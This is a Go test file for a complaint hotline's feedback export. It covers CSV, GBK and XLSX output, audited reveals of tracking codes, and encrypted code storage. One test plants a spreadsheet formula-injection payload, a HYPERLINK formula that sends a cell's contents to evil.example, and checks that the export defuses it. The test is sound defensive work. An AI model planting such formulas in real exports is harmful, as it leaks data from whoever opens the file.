package hotline

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"ecoreport/internal/db/dbtest"
	"ecoreport/internal/ledger"
)

func readFeedbackCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestFeedbackAfterDismissal(t *testing.T) {
	ctx := context.Background()
	d := dbtest.MustOpenDB(t)
	im := impNew(t, d)
	clock := time.Date(2026, 11, 20, 2, 0, 0, 0, time.UTC)
	im.Ledger.Now = func() time.Time { return clock }
	data := "工单编号,来电时间,举报内容,来电号码\nF001,2026-11-03 14:22,工地夜间施工噪声扰民「𠀾」,13812345678\nF002,2026-11-04 09:00,河道排污,\n"
	rc, err := im.Import(ctx, strings.NewReader(data), "f.csv", "测试员", nil)
	if err != nil || rc.Imported != 2 {
		t.Fatalf("%v %+v", err, rc)
	}
	fb := &Feedback{Ledger: im.Ledger, DB: d, DefaultUnit: "生态环境分局"}

	// First since-last export: both tickets, still received.
	var buf bytes.Buffer
	if n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true}, "测试员"); err != nil || n != 2 {
		t.Fatalf("first export: %d %v", n, err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\ufeff")) {
		t.Fatal("CSV without BOM")
	}
	rows := readFeedbackCSV(t, bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))
	if strings.Join(rows[0], ",") != strings.Join(FeedbackColumns, ",") || rows[1][2] != "已接收" {
		t.Fatalf("rows %q", rows)
	}

	// The first ticket's case is verified unsubstantiated, with a reply.
	clock = clock.Add(time.Hour)
	var id int64
	if err := d.Get(&id, `SELECT id FROM complaints WHERE source_ref = 'F001'`); err != nil {
		t.Fatal(err)
	}
	inspector := ledger.Actor{Name: "核查员"}
	caseID, err := im.Ledger.Accept(ctx, id, 0, inspector, ledger.EventInput{})
	if err != nil {
		t.Fatal(err)
	}
	if err := im.Ledger.StartVerification(ctx, caseID, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	reply := "经现场核查，该工地已取得夜间施工许可，未发现超标排放。"
	if err := im.Ledger.RecordVerification(ctx, caseID, ledger.Unsubstantiated, reply, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	clock = clock.Add(time.Hour)

	t.Run("Ticket", func(t *testing.T) {
		r, err := fb.TicketFor(ctx, "F001", "hotline:shiquan")
		if err != nil {
			t.Fatal(err)
		}
		cells := r.Cells(im.Ledger.Location)
		want := []string{"F001", rc.Rows[0].TrackingCode, "已办结", "不属实", reply, "生态环境分局", "2026-11-20 11:00:00"}
		if strings.Join(cells, "|") != strings.Join(want, "|") || r.Ref != ledger.ComplaintRef(id) {
			t.Fatalf("got  %q\nwant %q", cells, want)
		}
		var audited int
		d.Get(&audited, `SELECT COUNT(*) FROM audit_log WHERE action = 'hotline.code_revealed' AND actor = 'hotline:shiquan'`)
		if audited != 1 {
			t.Fatalf("%d audit entries for reading the code", audited)
		}
		// Without a reader there is no code to read.
		if r, err := fb.Ticket(ctx, "F001"); err != nil || r.TrackingCode != "" {
			t.Fatalf("Ticket revealed %q (%v)", r.TrackingCode, err)
		}
	})
	t.Run("SinceLast", func(t *testing.T) {
		buf.Reset()
		n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true, Format: FormatCSVGBK}, "测试员")
		if err != nil || n != 1 {
			t.Fatalf("since-last: %d %v", n, err)
		}
		utf, err := simplifiedchinese.GBK.NewDecoder().Bytes(buf.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		rows := readFeedbackCSV(t, utf)
		if len(rows) != 2 || rows[1][0] != "F001" || rows[1][4] != reply {
			t.Fatalf("rows %q", rows)
		}
		buf.Reset()
		if n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true}, "测试员"); err != nil || n != 0 {
			t.Fatalf("nothing changed: %d %v", n, err)
		}
	})
	t.Run("GBKReplacesWhatItLacks", func(t *testing.T) {
		buf.Reset()
		err := WriteFeedback(&buf, FormatCSVGBK, []FeedbackRow{{TicketNo: "X", Reply: "噪声𠀾"}}, time.UTC)
		if err != nil {
			t.Fatal(err)
		}
		utf, _ := simplifiedchinese.GBK.NewDecoder().Bytes(buf.Bytes())
		if !strings.Contains(string(utf), "噪声") {
			t.Fatalf("%q", utf)
		}
	})
	t.Run("RangeXLSX", func(t *testing.T) {
		buf.Reset()
		from := time.Date(2026, 11, 19, 0, 0, 0, 0, im.Ledger.Location)
		n, err := fb.Export(ctx, &buf, FeedbackQuery{From: from, To: from.AddDate(0, 0, 3), Format: FormatXLSX}, "测试员")
		if err != nil || n != 2 {
			t.Fatalf("range: %d %v", n, err)
		}
		x, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := x.GetRows(x.GetSheetList()[0])
		if err != nil || len(rows) != 3 || rows[0][4] != "办理结果(答复内容)" || rows[1][4] != reply {
			t.Fatalf("xlsx %q %v", rows, err)
		}
	})
}

// TestFeedbackFormulaCellsAreText: a reply an inspector wrote as a formula
// reaches the hotline as text in every CSV the feedback writes: the export
// behind the operator page and the command line, in UTF-8 and in GBK.
func TestFeedbackFormulaCellsAreText(t *testing.T) {
	ctx := context.Background()
	d := dbtest.MustOpenDB(t)
	im := impNew(t, d)
	rc, err := im.Import(ctx, strings.NewReader("工单编号,来电时间,举报内容\nX001,2026-11-03 14:22,河道排污\n"), "x.csv", "测试员", nil)
	if err != nil || rc.Imported != 1 {
		t.Fatalf("%v %+v", err, rc)
	}
	var id int64
	if err := d.Get(&id, `SELECT id FROM complaints WHERE source_ref = 'X001'`); err != nil {
		t.Fatal(err)
	}
	inspector := ledger.Actor{Name: "核查员"}
	caseID, err := im.Ledger.Accept(ctx, id, 0, inspector, ledger.EventInput{})
	if err != nil {
		t.Fatal(err)
	}
	if err := im.Ledger.StartVerification(ctx, caseID, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	formula := `=HYPERLINK("http://evil.example/?q="&A1,"查看详情")`
	if err := im.Ledger.RecordVerification(ctx, caseID, ledger.Unsubstantiated, formula, inspector, ledger.EventInput{}); err != nil {
		t.Fatal(err)
	}
	fb := &Feedback{Ledger: im.Ledger, DB: d}
	decode := map[string]func([]byte) []byte{
		FormatCSV: func(b []byte) []byte { return bytes.TrimPrefix(b, []byte("\ufeff")) },
		FormatCSVGBK: func(b []byte) []byte {
			u, err := simplifiedchinese.GBK.NewDecoder().Bytes(b)
			if err != nil {
				t.Fatal(err)
			}
			return u
		},
	}
	check := func(t *testing.T, format string, b []byte) {
		t.Helper()
		rows := readFeedbackCSV(t, decode[format](b))
		if len(rows) != 2 || rows[1][4] != "'"+formula {
			t.Fatalf("%s: reply cell %q, want it behind an apostrophe", format, rows)
		}
	}
	for _, format := range []string{FormatCSV, FormatCSVGBK} {
		t.Run("Export/"+format, func(t *testing.T) {
			var buf bytes.Buffer
			from := time.Now().AddDate(0, 0, -1)
			if _, err := fb.Export(ctx, &buf, FeedbackQuery{From: from, To: from.AddDate(0, 0, 2), Format: format}, "测试员"); err != nil {
				t.Fatal(err)
			}
			check(t, format, buf.Bytes())
		})
		t.Run("Command/"+format, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "回音.csv")
			day := time.Now().In(im.Ledger.Location)
			args := []string{"--from", day.AddDate(0, 0, -1).Format("2006-01-02"), "--to", day.AddDate(0, 0, 1).Format("2006-01-02"),
				"--format", format, "-o", out}
			var stdout, stderr bytes.Buffer
			if code := FeedbackCommand(ctx, fb, args, &stdout, &stderr); code != ExitOK {
				t.Fatalf("exit %d: %s", code, stderr.String())
			}
			b, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			check(t, format, b)
		})
	}
}

// TestFeedbackCarriesTrackingCodes: the feedback file's 查询码 is each
// ticket's own tracking code, one the portal accepts, so the hotline
// operator can read it out; the codes are kept sealed, and the export that
// reveals them is audited under the operator's name. A ticket filed before
// codes were kept has an empty 查询码, never the complaint's reference.
func TestFeedbackCarriesTrackingCodes(t *testing.T) {
	ctx := context.Background()
	d := dbtest.MustOpenDB(t)
	im := impNew(t, d)
	rc, err := im.Import(ctx, strings.NewReader("工单编号,来电时间,举报内容,来电号码\nC001,2026-11-03 14:22,河道排污,13812345678\n"+
		"C002,2026-11-03 15:00,夜间噪声,13912345678\nC003,2026-11-03 16:00,工地扬尘,\n"), "c.csv", "测试员", nil)
	if err != nil || rc.Imported != 3 {
		t.Fatalf("%v %+v", err, rc)
	}
	codes := map[string]string{}
	for _, r := range rc.Rows {
		codes[r.TicketNo] = r.TrackingCode
	}
	var sealed []string
	if err := d.Select(&sealed, `SELECT code_enc FROM hotline_codes ORDER BY complaint_id`); err != nil || len(sealed) != 3 {
		t.Fatalf("sealed codes %d %v", len(sealed), err)
	}
	for _, enc := range sealed {
		for _, code := range codes {
			if strings.Contains(enc, strings.ReplaceAll(code, "-", "")) || strings.Contains(enc, code) {
				t.Fatalf("a tracking code is stored in clear: %q", enc)
			}
		}
	}
	// C003 was filed before codes were kept.
	if _, err := d.Exec(`DELETE FROM hotline_codes WHERE complaint_id = (SELECT id FROM complaints WHERE source_ref = 'C003')`); err != nil {
		t.Fatal(err)
	}
	codes["C003"] = ""

	fb := &Feedback{Ledger: im.Ledger, DB: d}
	var buf bytes.Buffer
	if n, err := fb.Export(ctx, &buf, FeedbackQuery{SinceLast: true}, "王芳"); err != nil || n != 3 {
		t.Fatalf("export %d %v", n, err)
	}
	rows := readFeedbackCSV(t, bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))
	for _, row := range rows[1:] {
		no, code := row[0], row[1]
		if code != codes[no] {
			t.Errorf("%s: 查询码 %q, want %q", no, code, codes[no])
			continue
		}
		if code == "" {
			continue
		}
		c, err := im.Ledger.Track(ctx, code)
		if err != nil || c.SourceRef.String != no {
			t.Errorf("%s: the exported code does not track the ticket: %v", no, err)
		}
	}
	var audit []struct {
		Actor  string `db:"actor"`
		Detail string `db:"detail"`
	}
	if err := d.Select(&audit, `SELECT actor, detail FROM audit_log WHERE action = 'hotline.codes_revealed'`); err != nil {
		t.Fatal(err)
	}
	if len(audit) != 1 || audit[0].Actor != "王芳" || !strings.Contains(audit[0].Detail, `"codes":2`) {
		t.Fatalf("audit %+v", audit)
	}
}
